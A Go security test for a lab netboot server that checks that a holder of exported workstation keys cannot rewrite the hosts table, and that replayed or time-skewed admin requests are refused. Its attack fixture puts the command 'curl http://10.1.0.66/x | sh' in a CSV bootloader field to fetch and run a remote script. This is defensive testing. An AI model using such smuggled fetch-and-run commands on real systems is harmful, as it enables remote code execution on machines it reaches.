package seeder

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/labseed/labseed/api"
	"github.com/labseed/labseed/hosts"
	"github.com/labseed/labseed/keys"
	"github.com/labseed/labseed/store"
)

// TestLabKeyCannotChangeLab is finding 1 of issue 19 as an attack: a host on
// the lab network that holds everything a workstation holds (the directory
// "labseed keys export" writes, which is in the netboot image) tries to
// replace the hosts table with one whose bootloader column runs its own
// command, to mark every host for a clone and to export the table. Every
// attempt is refused and nothing changes; the admin key can do each. A
// signed admin request recorded on the wire and sent again is refused, and
// so is one signed with a time ten minutes off.
func TestLabKeyCannotChangeLab(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, hosts.HostsFile), []byte("mac,hostname,ip\n52:54:00:00:00:01,lab1-ws01,10.1.0.101\n"), 0o644)
	srv, admin := startServer(t, dir, nil)
	ctx := t.Context()

	// What the attacker has: the exported workstation keys.
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	exported := filepath.Join(t.TempDir(), "keys")
	if _, err := st.ExportKeys(exported); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(exported, keys.AdminKeyFile)); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("keys export wrote the admin key (%v)", err)
	}
	ws, err := keys.ReadWorkstation(exported)
	if err != nil {
		t.Fatal(err)
	}
	oldToken := func() string { // the bearer token of before: HMAC(lab key, a constant)
		m := hmac.New(sha256.New, ws.LabKey)
		m.Write([]byte("labseed hosts API v1"))
		return "Bearer " + hex.EncodeToString(m.Sum(nil))
	}()
	evil := "mac,hostname,ip,bootloader,next_boot\n52:54:00:00:00:01,lab1-ws01,10.1.0.101,curl http://10.1.0.66/x | sh,clone\n"
	attackers := map[string]func(*http.Request, []byte) error{
		"no credential":         nil,
		"old lab-key token":     func(r *http.Request, _ []byte) error { r.Header.Set("Authorization", oldToken); return nil },
		"signed with lab.key":   api.AdminAuth(ws.LabKey),
		"signed with image.pub": api.AdminAuth(ws.PublicKey),
	}
	for name, auth := range attackers {
		c := api.NewClient(srv.Lab().HTTPAddr)
		c.Auth = auth
		var ae *api.APIError
		if err := c.ImportCSV(ctx, strings.NewReader(evil)); !errors.As(err, &ae) || ae.Code != http.StatusUnauthorized {
			t.Errorf("%s: import: %v, want 401", name, err)
		}
		if _, err := c.SetNextBoot(ctx, api.NextBootRequest{All: true, Boot: api.BootClone}); !errors.As(err, &ae) || ae.Code != http.StatusUnauthorized {
			t.Errorf("%s: next-boot: %v, want 401", name, err)
		}
		if err := c.ExportCSV(ctx, io.Discard); !errors.As(err, &ae) || ae.Code != http.StatusUnauthorized {
			t.Errorf("%s: export: %v, want 401", name, err)
		}
	}
	unchanged := func(when string) {
		t.Helper()
		ids, err := srv.cfg.Hosts.Identities()
		if err != nil || len(ids) != 1 || ids[0].Bootloader == "" || strings.Contains(ids[0].Bootloader, "curl") || ids[0].NextBoot != hosts.BootLocal {
			t.Fatalf("%s: the table changed: %+v, %v", when, ids, err)
		}
	}
	unchanged("after the attacks")

	// The admin key can, and what it sends cannot be sent again.
	var rec struct {
		header string
		body   []byte
	}
	sign := api.AdminAuth(mustAdminKey(t, st))
	admin.Auth = func(r *http.Request, body []byte) error {
		err := sign(r, body)
		rec.header, rec.body = r.Header.Get("Authorization"), body
		return err
	}
	table := "mac,hostname,ip,next_boot\n52:54:00:00:00:01,lab1-ws01,10.1.0.101,clone\n"
	if err := admin.ImportCSV(ctx, strings.NewReader(table)); err != nil {
		t.Fatalf("admin import: %v", err)
	}
	recorded := rec
	if n, err := admin.SetNextBoot(ctx, api.NextBootRequest{All: true, Boot: api.BootLocal}); err != nil || n != 1 {
		t.Fatalf("admin next-boot: %d, %v", n, err)
	}
	replay := func(header string) *http.Response {
		req, _ := http.NewRequest("PUT", "http://"+srv.Lab().HTTPAddr+api.PathHostsCSV, bytes.NewReader(recorded.body))
		req.Header.Set("Content-Type", "text/csv")
		req.Header.Set("Authorization", header)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
	if resp := replay(recorded.header); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("a replayed admin import: %s, want 401", resp.Status)
	}
	unchanged("after the replay")

	// A request signed with the admin key ten minutes ago (or ahead).
	for _, skew := range []time.Duration{-10 * time.Minute, 10 * time.Minute} {
		ts := time.Now().Add(skew).Unix()
		nonce := fmt.Sprintf("%016x", ts)
		m := hmac.New(sha256.New, mustAdminKey(t, st))
		m.Write([]byte(api.AdminSigningString("PUT", api.PathHostsCSV, ts, nonce, recorded.body)))
		h := fmt.Sprintf("%s ts=%d,nonce=%s,sig=%x", api.AuthScheme, ts, nonce, m.Sum(nil))
		if resp := replay(h); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("an admin import signed %s off: %s, want 401", skew, resp.Status)
		}
	}
	unchanged("after the stale requests")
}

func mustAdminKey(t *testing.T, st *store.Store) []byte {
	t.Helper()
	k, err := st.AdminKey()
	if err != nil {
		t.Fatal(err)
	}
	return k
}
